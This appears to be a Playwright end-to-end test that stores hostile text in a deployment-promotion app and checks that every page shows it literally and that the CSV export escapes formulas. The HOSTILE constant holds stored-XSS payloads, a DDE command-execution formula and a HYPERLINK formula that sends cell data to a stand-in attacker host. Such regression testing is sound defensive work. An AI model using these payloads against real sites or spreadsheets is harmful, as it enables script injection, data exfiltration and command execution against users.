import { randomBytes } from "node:crypto";
import type { APIRequestContext, Browser, Page } from "@playwright/test";
import { signIn } from "./sign-in";
import { demoUser, expect, promotionStatus, test } from "./private-app";

/**
 * Stored user text (commit messages, version labels, reasons, comments, names, titles) reaches the
 * pages as text: markup in it is shown, never parsed. Each payload would set `window.__xss` (or
 * open a dialog) if it ran; every string is registered through the real API and then looked for,
 * verbatim, on each page that shows it. Acts on Checkout Web only.
 */

const SERVICE = { slug: "checkout-web", name: "Checkout Web" };

const HOSTILE = {
  version: `9.9.9-<img src=x onerror="window.__xss=1">`,
  commitMessage: `<script>window.__xss=1</script> fix(form): trust nobody`,
  commitBody: `Body with <img src=x onerror="alert('body')"> in it`,
  formulaCommit: `=HYPERLINK("https://evil.example/?d="&A1,"open")`,
  author: `<b onmouseover="window.__xss=1">Mallory Commit</b>`,
  promotionReason: `"><svg onload="window.__xss=1"></svg> ship it`,
  approverName: `@SUM(1+1) Mal <img src=x onerror=alert(1)>`,
  approvalComment: `<iframe srcdoc="<script>parent.__xss=1</script>"></iframe> LGTM`,
  holdReason: `<a href="javascript:window.__xss=1">freeze</a> until audit`,
  rollbackReason: `<script>alert(document.domain)</script> INC-9: revert`,
  incidentTitle: `=cmd|' /C calc'!A0 <img src=x onerror="window.__xss=1"> outage`,
  tokenName: `ci <script>window.__xss=1</script>`,
};

interface Fixture {
  devPromotionId: string;
  stagingPromotionId: string;
  rollbackPromotionId: string;
  incidentId: string;
}

const hex = (bytes: number) => randomBytes(bytes).toString("hex");

async function send(request: APIRequestContext, method: "POST" | "PATCH", url: string, data: unknown, headers: Record<string, string>) {
  const response = await request.fetch(url, { method, data, headers });
  expect(response.ok(), `${method} ${url}: ${response.status()} ${await response.text()}`).toBe(true);
  return response.json();
}

/**
 * Puts the hostile text where people type it, through the API the CLI and the UI use: an admin's
 * token registers the build (CI's path) and requests dev and staging; a new approver with a hostile
 * name approves with a hostile comment; the admin holds prod, rolls dev back and reports an incident.
 */
async function plant(browser: Browser, baseURL: string): Promise<Fixture> {
  const context = await browser.newContext({ baseURL });
  try {
    const page = await context.newPage();
    await signIn(page, demoUser("admin@example.com"));
    const session = { origin: baseURL };
    const { token } = await send(page.request, "POST", "/api/v1/tokens", { name: HOSTILE.tokenName, scopes: ["artifact:register", "promotion:request"] }, session);
    const bearer = { authorization: `Bearer ${token}` };

    const { service } = await (await page.request.get(`/api/v1/services/${SERVICE.slug}`)).json();
    const env = (name: string) => (service.environments as { id: string; name: string }[]).find((e) => e.name === name)!.id;
    // Two approvals in staging, so one approval leaves the promotion waiting (and on the board).
    await send(page.request, "PATCH", `/api/v1/environments/${env("staging")}`, { requiredApprovals: 2 }, session);

    const gitSha = hex(20);
    const { artifact } = await send(
      page.request,
      "POST",
      "/api/v1/artifacts",
      {
        service: SERVICE.slug,
        version: HOSTILE.version,
        gitSha,
        commitTime: new Date(Date.now() - 60_000).toISOString(),
        image: `registry.example.com/${SERVICE.slug}@sha256:${hex(32)}`,
        commits: [
          { sha: gitSha, message: `${HOSTILE.commitMessage}\n\n${HOSTILE.commitBody}`, author: { name: HOSTILE.author, email: "mallory@example.com" }, time: new Date(Date.now() - 60_000).toISOString() },
          { sha: hex(20), message: HOSTILE.formulaCommit, author: { name: "Eve", email: "eve@example.com" }, time: new Date(Date.now() - 120_000).toISOString() },
        ],
        labels: { note: HOSTILE.promotionReason },
      },
      bearer,
    );

    const dev = await send(page.request, "POST", "/api/v1/promotions", { artifactId: artifact.id, environmentId: env("dev"), reason: HOSTILE.promotionReason }, bearer);
    await expect
      .poll(async () => (await (await page.request.get(`/api/v1/promotions/${dev.promotion.id}`)).json()).promotion.status, { timeout: 60_000 })
      .toBe("Succeeded");
    const staging = await send(page.request, "POST", "/api/v1/promotions", { artifactId: artifact.id, environmentId: env("staging"), reason: HOSTILE.promotionReason }, bearer);
    expect(staging.promotion.status).toBe("PendingApproval");

    const password = `mallory-${hex(8)}`;
    const { user } = await send(page.request, "POST", "/api/v1/users", { email: "mallory.approver@example.com", name: HOSTILE.approverName, password }, session);
    await send(page.request, "POST", "/api/v1/role-bindings", { role: "approver", subject: { userId: user.id } }, session);
    const approver = await browser.newContext({ baseURL });
    try {
      const approverPage = await approver.newPage();
      await signIn(approverPage, { email: "mallory.approver@example.com", password });
      await send(approverPage.request, "POST", `/api/v1/promotions/${staging.promotion.id}/approvals`, { decision: "approve", comment: HOSTILE.approvalComment }, session);
    } finally {
      await approver.close();
    }

    await send(page.request, "POST", `/api/v1/environments/${env("prod")}/hold`, { reason: HOSTILE.holdReason }, session);
    const rollback = await send(page.request, "POST", `/api/v1/environments/${env("dev")}/rollback`, { reason: HOSTILE.rollbackReason }, session);
    const { incident } = await send(page.request, "POST", "/api/v1/incidents", { service: SERVICE.slug, title: HOSTILE.incidentTitle, severity: "major" }, session);
    return { devPromotionId: dev.promotion.id, stagingPromotionId: staging.promotion.id, rollbackPromotionId: rollback.promotion.id, incidentId: incident.id };
  } finally {
    await context.close();
  }
}

/** Watches a page for any sign that planted markup ran or was parsed. */
function watchForExecution(page: Page) {
  const dialogs: string[] = [];
  const strayRequests: string[] = [];
  page.on("dialog", (dialog) => {
    dialogs.push(`${dialog.type()}: ${dialog.message()}`);
    void dialog.dismiss();
  });
  // A parsed `<img src=x>` fetches ".../x" before its onerror can run.
  page.on("request", (request) => {
    if (new URL(request.url()).pathname.endsWith("/x")) strayRequests.push(request.url());
  });
  return async (where: string) => {
    const state = await page.evaluate(() => ({
      xss: (window as unknown as { __xss?: unknown }).__xss,
      // What the payloads would leave in the DOM had they been parsed as HTML.
      injected: Array.from(document.querySelectorAll("[onerror], [onload], [onmouseover], iframe[srcdoc], a[href^='javascript:']")).map((el) => el.outerHTML),
      // Next's flight data carries the text inside its own scripts, JSON-escaped (`\u003c`): only a
      // script that is one of the payloads' bodies was planted.
      scripts: Array.from(document.scripts)
        .filter((s) => ["window.__xss=1", "alert(document.domain)", "parent.__xss=1"].includes((s.textContent ?? "").trim()))
        .map((s) => s.outerHTML),
    }));
    expect(state.xss, `window.__xss on ${where}`).toBeUndefined();
    expect(state.injected, `elements with handlers on ${where}`).toEqual([]);
    expect(state.scripts, `planted scripts on ${where}`).toEqual([]);
    expect(dialogs, `dialogs on ${where}`).toEqual([]);
    expect(strayRequests, `image requests from planted markup on ${where}`).toEqual([]);
  };
}

test.describe.configure({ mode: "default" });

let planted: Fixture;

test.beforeAll(async ({ browser, app }) => {
  // The dev deployment runs for real (worker and sandbox cluster) so the rollback has something to undo.
  test.setTimeout(120_000);
  planted = await plant(browser, app.baseUrl);
});

test("hostile text is shown literally and never runs on the board, the service page and the promotion pages", async ({ page }) => {
  const check = watchForExecution(page);
  await signIn(page, demoUser("admin@example.com"));
  const main = page.locator("main#main");

  await page.goto(`/?q=${SERVICE.slug}`);
  const pipeline = page.getByRole("list", { name: `${SERVICE.name} pipeline` });
  await expect(pipeline).toContainText(HOSTILE.version);
  await expect(pipeline).toContainText(HOSTILE.holdReason);
  await expect(pipeline).toContainText(HOSTILE.rollbackReason);
  await check("the board");

  await page.goto(`/services/${SERVICE.slug}`);
  await expect(main).toContainText(HOSTILE.version);
  await expect(main).toContainText(HOSTILE.holdReason);
  await expect(main).toContainText(HOSTILE.rollbackReason);
  await check("the service page");

  await page.goto(`/promotions/${planted.devPromotionId}`);
  await expect(page.getByRole("heading", { level: 1 })).toHaveText(`Promote ${HOSTILE.version} to dev`);
  await expect(page).toHaveTitle(new RegExp(HOSTILE.version.replace(/[.*+?^${}()|[\]\\]/g, "\\$&")));
  const commits = page.getByRole("list", { name: "Commits" });
  await expect(commits).toContainText(HOSTILE.commitMessage);
  await expect(commits).toContainText(HOSTILE.author);
  await expect(commits).toContainText(HOSTILE.formulaCommit);
  await expect(commits.getByText(HOSTILE.commitMessage)).toHaveAttribute("title", `${HOSTILE.commitMessage}\n\n${HOSTILE.commitBody}`);
  await expect(main).toContainText(HOSTILE.promotionReason);
  await check("the dev promotion");

  await page.goto(`/promotions/${planted.stagingPromotionId}`);
  await expect(promotionStatus(page, "PendingApproval")).toBeVisible();
  const approval = page.getByRole("list", { name: "Approvals" }).getByRole("listitem").first();
  await expect(approval).toContainText(HOSTILE.approverName);
  await expect(approval).toContainText(HOSTILE.approvalComment);
  await expect(page.getByRole("list", { name: "Timeline" })).toContainText(HOSTILE.approverName);
  await check("the staging promotion");

  await page.goto(`/promotions/${planted.rollbackPromotionId}`);
  await expect(page.getByRole("list", { name: "Timeline" })).toContainText(HOSTILE.rollbackReason);
  await check("the rollback");

  await page.goto(`/promotions?service=${SERVICE.slug}`);
  await expect(page.getByRole("table")).toContainText(HOSTILE.version);
  await check("the promotion list");
});

test("hostile text is shown literally and never runs in the audit log, incidents, DORA and Settings", async ({ page }) => {
  const check = watchForExecution(page);
  await signIn(page, demoUser("admin@example.com"));
  const main = page.locator("main#main");

  await page.goto("/audit");
  await expect(main).toContainText(HOSTILE.approverName);
  await expect(main).toContainText(HOSTILE.rollbackReason);
  await expect(main).toContainText(HOSTILE.holdReason);
  await check("the audit log");

  await page.goto("/incidents");
  await expect(main).toContainText(HOSTILE.incidentTitle);
  await check("the incident list");
  await page.goto(`/incidents/${planted.incidentId}`);
  await expect(page.getByRole("heading", { level: 1 })).toHaveText(HOSTILE.incidentTitle);
  await check("the incident");

  await page.goto(`/dora?service=${SERVICE.slug}&detail=failures`);
  await expect(page.getByRole("region", { name: "Behind the numbers" })).toContainText(HOSTILE.incidentTitle);
  await check("the DORA failures");

  await page.goto("/settings/tokens");
  await expect(main).toContainText(HOSTILE.tokenName);
  await check("API tokens");
  await page.goto("/settings/users");
  await expect(main).toContainText(HOSTILE.approverName);
  await check("users");
});

test("the DORA CSV export puts a quote before a cell a spreadsheet would run as a formula", async ({ page }) => {
  await signIn(page, demoUser("admin@example.com"));
  const failures = await page.request.get(`/api/v1/dora/failures?service=${SERVICE.slug}&format=csv`);
  expect(failures.ok()).toBe(true);
  const row = (await failures.text()).split("\r\n").find((line) => line.includes("calc"));
  expect(row).toContain(`,"'${HOSTILE.incidentTitle.replaceAll('"', '""')}",`);
});
